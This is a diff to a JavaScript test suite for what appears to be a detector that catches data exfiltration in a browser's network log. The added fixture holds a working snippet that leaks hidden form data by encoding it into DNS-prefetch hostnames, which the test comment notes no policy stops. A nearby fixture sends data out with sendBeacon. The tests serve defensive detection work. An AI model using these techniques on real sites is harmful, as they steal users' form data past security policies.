@@ -100,6 +100,10 @@ const BY_LOG = {
     { html: formPage({ extra: lateThief("addEventListener('pagehide', () => navigator.sendBeacon('/x', hidden));") }), policy: (own) => own.replace(/connect-src [^;]*/, "connect-src 'self'") },
     [], ['session.open.missed'], ['--submit', '#send'],
   ],
+  'names that are only looked up, which no policy stops': [
+    { html: formPage({ extra: lateThief("for (let at = 0; at < 60; at += 20) document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: `//${[...hidden.subarray(at, at + 20)].map((byte) => byte.toString(16)).join('')}.invalid` }));") }) },
+    [], ['session.requests.looked'], ['--wait', '#ready'],
+  ],
 };
 for (const [name, [bad, expected, open, args]] of Object.entries(BY_LOG)) {
   slow(`caught by the browser's log: ${name}`, { skip }, async () => {
@@ -280,12 +284,14 @@ test('the browser\'s log is a second witness, also when it is cut off', async ()
   const event = (type, source, params, phase = 1) => JSON.stringify({ type, phase, time: '1500', source: { id: source }, params });
   const url = 'https://portal.example/asked';
   const lines = [
-    '{"constants": {"logEventTypes": {"SOCKET_BYTES_SENT": 1, "URL_REQUEST_START_JOB": 2, "HTTP_TRANSACTION_SEND_REQUEST": 3}, "timeTickOffset": 1000},',
+    '{"constants": {"logEventTypes": {"SOCKET_BYTES_SENT": 1, "URL_REQUEST_START_JOB": 2, "HTTP_TRANSACTION_SEND_REQUEST": 3, "HOST_RESOLVER_MANAGER_REQUEST": 4}, "timeTickOffset": 1000},',
     '"events": [', ...[
       event(1, 7, { bytes: Buffer.from('first half, ').toString('base64') }),
       event(2, 8, { url, initiator: 'https://portal.example' }), event(3, 8, {}), event(3, 8, {}, 2),
       event(2, 9, { url: 'https://portal.example/cached', initiator: 'https://portal.example' }),
       event(2, 10, { url: 'https://maker.example/', initiator: 'not an origin' }), event(3, 10, {}),
+      event(4, 11, { host: 'https://looked.example', network_anonymization_key: 'https://portal.example same_site' }),
+      event(4, 12, { host: 'https://maker.example', network_anonymization_key: 'null' }),
       event(1, 7, { bytes: Buffer.from('second half').toString('base64') }),
     ].map((line) => `${line},`), '{"type": 2, "par',
   ];
@@ -293,6 +299,7 @@ test('the browser\'s log is a second witness, also when it is cut off', async ()
   const wire = await wireOf(join(folder, 'log'));
   assert.equal(wire.bytes[0].toString(), 'first half, second half');
   assert.deepEqual(wire.asked, [{ url, atMs: 2500 }]);
+  assert.deepEqual(wire.looked, [{ server: 'https://looked.example', site: 'https://portal.example' }]);
   assert.equal(await wireOf(join(folder, 'none')), undefined);
   await rm(folder, { recursive: true });
 
